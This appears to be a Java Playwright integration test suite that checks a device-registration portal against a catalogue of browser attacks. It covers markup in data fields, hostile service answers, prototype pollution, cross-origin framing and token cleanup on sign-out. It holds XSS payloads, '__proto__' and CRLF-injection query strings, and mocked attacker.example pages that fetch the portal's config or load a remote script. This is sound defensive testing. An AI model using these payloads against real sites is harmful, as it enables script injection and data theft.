package io.rollcall.system;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;

import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Request;
import com.microsoft.playwright.Route;
import com.microsoft.playwright.options.FilePayload;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

/** Group F of docs/attacks.md in the browser: markup as data, pages of other sites, what is left behind, hostile addresses. */
class PortalAttackIT extends BrowserTest {

    /** How an attack in the data would be noticed: {@link Portal#errors} has a dialog, or there is an element that no page has. */
    private static final String INJECTED =
            "document.querySelectorAll('img[src=\"x\"], svg[onload], iframe, object, embed, base,"
                    + " script:not([src]), a[href^=\"javascript\"], #config, #main ~ #main').length";

    private static String portalUrl;

    private final String mark = uniquePrefix("XSS");

    @BeforeAll
    static void start() {
        portalUrl = system.url("status");
    }

    /** F1: in every field that a request can fill, on every page that shows one. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)><script>alert(1)</script>",
                "[x](javascript:alert(1)) ${alert(1)} {{1}}",
                "\\\"'><a id=config name=config href=javascript:alert(1)>x</a>"
            })
    void markupInDataIsTextOnEveryPage(String markup) {
        String text = markup.replace("\\\"", "\"");
        String serialNumber = mark + text;
        String id = register(Map.of(
                "serialNumber", mark + markup,
                "manufacturer", markup,
                "model", markup,
                "groupTag", markup,
                "assignedUser", markup + "@example.org",
                "purchaseOrder", markup));
        try (Portal portal = Portal.signIn(chromium, system, ADMIN)) {
            Page page = portal.page();
            portal.visit("/devices?search=" + mark
                    + "&columns=serialNumber,manufacturer,model,status,groupTag,assignedUser,purchaseOrder");
            assertThat(portal.row(mark)).containsText(serialNumber);
            untouched(portal, "devices");
            portal.row(mark).getByText(serialNumber).click();
            assertThat(page.locator("h1")).hasText(serialNumber);
            untouched(portal, "device");
            portal.visit("/registrations/" + id);
            assertThat(page.locator("table.rows")).containsText(serialNumber);
            untouched(portal, "registration");

            portal.open("Register devices");
            page.locator("input[type=file]")
                    .setInputFiles(new FilePayload(
                            text.replace('/', '-') + ".csv",
                            "text/csv",
                            (SampleFile.SCRIPT_HEADER + "\r\n\"" + serialNumber.replace("\"", "\"\"")
                                            + "\",,no hash\r\n")
                                    .getBytes(UTF_8)));
            assertThat(page.locator("rc-preview")).containsText("1 row has a problem");
            untouched(portal, "preview");
        }
        try (Portal portal = Portal.signIn(chromium, system, "operator")) {
            portal.open("Requests");
            portal.search(serialNumber);
            portal.page().keyboard().press("Enter");
            assertThat(portal.page().locator(".facts").first()).containsText(text);
            untouched(portal, "requests");
        }
    }

    /** F1, F8: a service, or something in front of it, that answers with markup, and with names that objects inherit. */
    @Test
    void aHostileAnswerOfAServiceIsText() {
        String problem = "{\"type\":\"https://x/__proto__\",\"title\":\"<img src=x onerror=alert(1)>\","
                + "\"detail\":\"<svg onload=alert(1)>\",\"requestId\":\"<b>1</b>\",\"__proto__\":{\"polluted\":true},"
                + "\"errors\":[{\"file\":\"<i>f</i>\",\"message\":\"<script>alert(1)</script>\"}]}";
        try (Portal portal = Portal.signIn(chromium, system, ADMIN)) {
            Page page = portal.page();
            page.route(
                    url -> url.contains("/v1/devices?"),
                    route -> route.fulfill(new Route.FulfillOptions()
                            .setStatus(400)
                            .setContentType("application/problem+json")
                            .setBody(problem)));
            portal.open("Registrations");
            portal.open("Devices");

            assertThat(page.locator("rc-problem")).containsText("<img src=x onerror=alert(1)>");
            assertThat(page.locator("rc-problem")).containsText("<script>alert(1)</script>");
            untouched(portal, "problem");
        }
    }

    /** F8. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "?__proto__[polluted]=1&__proto__.polluted=1&constructor.prototype.polluted=1",
                "?columns=__proto__,constructor&sort=__proto__&order=constructor&status=toString",
                "?code=__proto__&groupTag=constructor&search=%3Cimg%20src=x%20onerror=alert(1)%3E",
                "?search=" + "%F0%9F%92%A9",
                "?registrationId=%00%0d%0aX:1#<img src=x onerror=alert(1)>"
            })
    void aHostileAddressHasNoEffect(String query) {
        try (Portal portal = Portal.signIn(chromium, system, ADMIN)) {
            portal.visit("/devices" + query);
            assertThat(portal.page().locator("h1")).hasText("Devices");
            assertThat(portal.page().locator("table.devices[aria-busy=true]")).hasCount(0);
            untouched(portal, query);
            portal.visit("/" + query);
            assertThat(portal.page().locator("h1")).hasText("Overview");
            untouched(portal, query);
        }
    }

    /** F2: pages of other sites, one of which only begins with the portal's name. */
    @ParameterizedTest
    @ValueSource(strings = {"http://attacker.example", "http://127.0.0.1.attacker.example"})
    void aPageOfAnotherSiteShowsAndReadsNothing(String site) {
        try (BrowserContext context = chromium.browser().newContext()) {
            context.route(
                    url -> url.startsWith(site),
                    route -> route.fulfill(new Route.FulfillOptions()
                            .setContentType("text/html")
                            .setBody("<iframe name=portal src='" + portalUrl + "/devices'></iframe>"
                                    + "<iframe id=null sandbox=allow-scripts srcdoc=\"<script>fetch('" + portalUrl
                                    + "/v1/config').then(() => parent.postMessage('read', '*'), () => parent.postMessage('refused',"
                                    + " '*'))</script>\"></iframe>")));
            Page page = context.newPage();
            page.addInitScript("addEventListener('message', event => (window.ofNull ??= event.data))");
            page.navigate(site + "/");

            page.waitForFunction("window.ofNull !== undefined");
            assertThat(page.evaluate("window.ofNull")).isEqualTo("refused");
            // what Chromium shows in the place of a page that may not be framed
            page.waitForCondition(() -> page.frame("portal").url().startsWith("chrome-error:"));
            for (String path : List.of("/v1/config", "/v1/devices")) {
                assertThat(page.evaluate(
                                "url => fetch(url, { credentials: 'include' }).then(() => 'read', () => 'refused')",
                                portalUrl + path))
                        .as(path)
                        .isEqualTo("refused");
            }
        }
    }

    /** F2: if markup got into the page after all. */
    @Test
    void thePageRunsNoInlineScriptAndAsksNoOtherOrigin() {
        try (Portal portal = Portal.signIn(chromium, system, ADMIN)) {
            Page page = portal.page();
            List<String> sent = new ArrayList<>();
            page.route(url -> url.startsWith("https://attacker.example"), route -> {
                sent.add(route.request().url());
                route.fulfill(new Route.FulfillOptions()
                        .setHeaders(Map.of("Access-Control-Allow-Origin", "*"))
                        .setContentType("text/javascript")
                        .setBody("window.ran = 4"));
            });
            page.evaluate(
                    "document.body.insertAdjacentHTML('beforeend', '<img src=\"/nothing\" onerror=\"window.ran = 1\">'"
                            + " + '<a id=trap href=\"javascript:window.ran=2\">x</a>')");
            page.evaluate(
                    "document.body.append(Object.assign(document.createElement('script'), { text: 'window.ran = 3' }))");
            page.evaluate("document.getElementById('trap').click()");
            page.evaluate("document.body.append(Object.assign(document.createElement('script'),"
                    + " { src: 'https://attacker.example/x.js' }))");

            assertThat(page.evaluate("fetch('https://attacker.example/').then(() => 'sent', () => 'refused')"))
                    .isEqualTo("refused");
            assertThat(sent).isEmpty();
            assertThat(page.evaluate("window.ran === undefined")).isEqualTo(true);
            assertThat(portal.errors()).anyMatch(each -> each.contains("Content Security Policy"));
        }
    }

    /** F3: while somebody is signed in, and afterwards, in this tab and in another one. */
    @Test
    void noTokenIsLeftAnywhereAndSigningOutEndsAllTabs() {
        String serialNumber = mark + "-LEFT";
        register(Map.of("serialNumber", serialNumber, "manufacturer", "Contoso Ltd.", "model", "Web"));
        List<Request> requests = new ArrayList<>();
        try (Portal portal = Portal.signIn(chromium, system, ADMIN)) {
            Page page = portal.page();
            page.context().onRequest(requests::add);
            Page other = page.context().newPage();
            other.navigate(portalUrl + "/devices");
            other.locator("rc-sign-in button.primary").click();
            assertThat(other.locator("rc-header nav")).isVisible();
            page.reload();
            portal.search(mark);
            assertThat(portal.row(serialNumber)).isVisible();

            assertThat(kept(page)).doesNotContain("eyJ", "code=", "verifier", serialNumber);
            assertThat(requests).extracting(Request::url).noneMatch(url -> url.contains("eyJ"));
            assertThat(requests)
                    .filteredOn(request -> request.url().startsWith(portalUrl))
                    .extracting(request -> String.valueOf(request.headers().get("referer")))
                    .noneMatch(referer -> referer.contains("code=") || referer.contains("search="));

            portal.button(Pattern.compile(ADMIN)).click();
            portal.button("Sign out").click();
            assertThat(page.locator("rc-sign-in button.primary")).isVisible();
            assertThat(other.locator("rc-sign-in button.primary")).isVisible();
            assertThat(other.locator("table.devices")).hasCount(0);
            assertThat(kept(page)).doesNotContain("eyJ", serialNumber, "rollcall.signed-in");
            page.goBack();
            assertThat(page.locator("body")).not().containsText(serialNumber);
        }
    }

    /** Everything that a page can keep beyond its own life. */
    private static String kept(Page page) {
        return String.valueOf(
                page.evaluate(
                        """
                Promise.all([indexedDB.databases(), caches.keys(), navigator.serviceWorker.getRegistrations()]).then(([d, c, w]) =>
                  JSON.stringify([d, c, w.length, {...localStorage}, {...sessionStorage}, document.cookie, window.name, history.state]))
                """));
    }

    private static void untouched(Portal portal, String where) {
        assertThat(portal.errors()).as(where).isEmpty();
        assertThat(portal.page().evaluate(INJECTED)).as(where).isEqualTo(0);
        assertThat(portal.page().evaluate("({}).polluted === undefined && window.config === undefined"))
                .as(where)
                .isEqualTo(true);
    }

    /** Asks for a device that no supplier lists, so that its registration fails. Returns the registration's id. */
    private static String register(Map<String, String> device) {
        StringBuilder json = new StringBuilder();
        device.forEach(
                (name, value) -> json.append(json.isEmpty() ? "" : ",").append("\"" + name + "\":\"" + value + "\""));
        return system.accepted("intake", "/v1/registrations", ADMIN, "{\"devices\":[{" + json + "}]}")
                .path("id")
                .asText();
    }
}
